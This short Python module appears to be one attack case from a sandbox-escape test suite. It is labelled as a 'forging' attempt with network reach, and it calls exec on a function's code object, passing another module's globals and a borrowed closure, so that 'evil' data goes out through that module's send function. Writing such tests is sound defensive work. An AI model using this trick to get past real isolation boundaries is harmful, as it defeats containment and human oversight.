"""exec of a function's code with a closure of one's own."""
CATEGORY = "forging"
REACH = "net"

from . import payload


def attack():
    port = payload.PORT

    def inner():
        import good
        good.send("evil", port)

    exec(inner.__code__, vars(__import__("good")),
         closure=inner.__closure__)
